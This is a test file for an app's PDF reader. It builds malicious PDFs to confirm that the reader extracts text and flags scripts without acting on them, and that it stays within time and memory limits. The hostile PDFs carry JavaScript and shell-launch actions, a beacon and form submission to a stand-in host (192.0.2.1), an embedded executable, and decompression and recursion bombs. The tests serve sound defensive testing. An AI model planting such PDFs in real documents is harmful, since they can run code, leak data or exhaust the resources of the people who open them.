/** A PDF made to run a script, to reach out, or to use up the desk: it gives its text or a sentence, in bounded time and memory. */
import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { readSource } from '../../electron/core/cards/sources/read-source.ts'
import { alderLines } from '../material/sources/alder-lines.ts'
import { column, flateObject, makePdf, pdfOf, type PdfExtras } from '../material/sources/make-pdf.ts'

const now = '2026-11-22T10:00:00.000Z'
const read = (bytes: Uint8Array) => readSource({ name: 'team.pdf', bytes, now })
const alder = (extras: PdfExtras) => makePdf([column(alderLines)], extras)

async function outcome(bytes: Uint8Array): Promise<{ readonly said: string; readonly seconds: number }> {
  const start = performance.now()
  const result = await read(bytes)
  return { said: result.ok ? 'read' : result.problem.code, seconds: (performance.now() - start) / 1000 }
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>'

describe('a PDF that wants to do something', () => {
  it.each([
    [
      'runs a script when it is opened',
      { catalog: '/OpenAction 100 0 R', objects: { 100: '<< /S /JavaScript /JS (app.alert\\(1\\); throw 1) >>' } },
    ],
    [
      'has a script for the whole document',
      {
        catalog: '/Names << /JavaScript << /Names [(a) 100 0 R] >> >>',
        objects: { 100: '<< /S /JavaScript /JS (this.getURL\\("http://192.0.2.1/"\\)) >>' },
      },
    ],
    [
      'launches a program',
      { catalog: '/OpenAction 100 0 R', objects: { 100: '<< /S /Launch /F (/bin/sh) /NewWindow true >>' } },
    ],
    [
      'goes to a page on the net',
      { catalog: '/OpenAction 100 0 R', objects: { 100: '<< /S /URI /URI (http://192.0.2.1/beacon) >>' } },
    ],
    [
      'sends a form',
      {
        catalog: '/OpenAction 100 0 R /AcroForm << /Fields [] /XFA 101 0 R >>',
        objects: {
          100: '<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> >>',
          101: flateObject(
            Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><a href="http://192.0.2.1"/></xdp:xdp>'),
          ),
        },
      },
    ],
    [
      'carries a program',
      {
        catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 100 0 R] >> >>',
        objects: {
          100: '<< /Type /Filespec /F (x.exe) /EF << /F 101 0 R >> >>',
          101: flateObject(Buffer.from('MZ'), '/Type /EmbeddedFile '),
        },
      },
    ],
    [
      'has a stream in another file',
      { objects: { 100: '<< /F (http://192.0.2.1/x) /Length 0 >>\nstream\n\nendstream' }, page: '/Metadata 100 0 R' },
    ],
  ] satisfies readonly (readonly [string, PdfExtras])[])('that %s is read and nothing is done', async (_, extras) => {
    const result = await read(alder(extras))
    expect(result).toMatchObject({ ok: true, value: { kind: 'pdf', readings: [{ country: 'GB' }] } })
  })

  it('that carries a script says so', async () => {
    const result = await read(
      alder({ catalog: '/OpenAction 100 0 R', objects: { 100: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' } }),
    )
    expect(result.ok && result.value.findings.map(({ code }) => code)).toContain('pdf-has-script')
  })
})

describe('a PDF made to use up the desk', () => {
  it('with a loop in its page tree ends in a sentence', async () => {
    const pdf = pdfOf(
      new Map([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
        [3, '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>'],
      ]),
    )
    expect((await outcome(pdf)).said).toMatch(/^pdf-/)
  })

  it('whose objects refer to each other for ever ends in a sentence', async () => {
    const pdf = pdfOf(
      new Map([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Kids [4 0 R] /Count 5 0 R >>'],
        [4, '<< /Type /Page /Parent 2 0 R /MediaBox 5 0 R /Contents 6 0 R /Resources 5 0 R >>'],
        [5, '6 0 R'],
        [6, '5 0 R'],
      ]),
    )
    expect((await outcome(pdf)).said).toMatch(/^pdf-/)
  })

  it('that draws itself in itself ends in a sentence or its text', async () => {
    const form =
      '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream'
    const pdf = pdfOf(
      new Map([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
        [
          3,
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 5 0 R /Resources << /XObject << /X 4 0 R >> >> >>',
        ],
        [4, form],
        [5, '<< /Length 5 >>\nstream\n/X Do\nendstream'],
      ]),
    )
    expect((await outcome(pdf)).said).toMatch(/^pdf-|^worker-stopped$/)
  })

  it('of ten thousand pages is refused, naming the limit', async () => {
    const pdf = makePdf(Array.from({ length: 10_000 }, () => column(['x'])))
    expect(await read(pdf)).toMatchObject({ problem: { code: 'pdf-too-long', params: { pages: 10_000, limit: 300 } } })
  }, 30_000)

  it('that claims ten thousand pages and has one is no reason to wait', async () => {
    const pdf = pdfOf(
      new Map([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Kids [4 0 R] /Count 250 >>'],
        [3, FONT],
        [
          4,
          '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
        ],
        [5, flateObject(Buffer.from('BT /F1 10 Tf 50 700 Td (2.7 Mail: a@alder.example) Tj ET'))],
      ]),
    )
    const { said, seconds } = await outcome(pdf)
    expect(said).toMatch(/^read$|^pdf-/)
    expect(seconds).toBeLessThan(20)
  }, 30_000)

  it.each([
    ['spaces', () => Buffer.alloc(400_000_000, 0x20)],
    [
      'one string of letters',
      () => Buffer.concat([Buffer.from('BT /F1 9 Tf ('), Buffer.alloc(150_000_000, 0x41), Buffer.from(') Tj ET')]),
    ],
    ['text', () => Buffer.from(`BT /F1 9 Tf ${'(abc) Tj 1 0 Td '.repeat(700_000)} ET`)],
    ['open brackets', () => Buffer.alloc(50_000_000, 0x5b)],
  ])(
    'whose page unfolds to a mass of %s ends in a sentence or is cut',
    async (_, make) => {
      const pdf = makePdf([], { streams: [make()] })
      expect(pdf.length).toBeLessThan(10 * 1024 * 1024)
      const start = performance.now()
      const result = await read(pdf)
      if (result.ok) expect(result.value.text.length).toBeLessThanOrEqual(1024 * 1024)
      else expect(result.problem.code).toMatch(/^worker-stopped$|^pdf-/)
      expect(performance.now() - start).toBeLessThan(20_000)
    },
    60_000,
  )

  it('packed in twenty layers ends in a sentence', async () => {
    let data: Buffer = Buffer.alloc(10_000_000, 0x20)
    for (let layer = 0; layer < 20; layer += 1) data = deflateSync(data, { level: 1 })
    const filters = Array.from({ length: 20 }, () => '/FlateDecode').join(' ')
    const pdf = pdfOf(
      new Map([
        [1, '<< /Type /Catalog /Pages 2 0 R >>'],
        [2, '<< /Type /Pages /Kids [4 0 R] /Count 1 >>'],
        [4, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R >>'],
        [5, `<< /Filter [${filters}] /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`],
      ]),
    )
    const { said, seconds } = await outcome(pdf)
    expect(said).toMatch(/^worker-stopped$|^pdf-/)
    expect(seconds).toBeLessThan(20)
  }, 30_000)

  it('of more than 10 MB is refused unread', async () => {
    const pdf = Buffer.concat([makePdf([column(alderLines)]), Buffer.alloc(10 * 1024 * 1024)])
    expect(await outcome(pdf)).toMatchObject({ said: 'source-too-large' })
  })
})
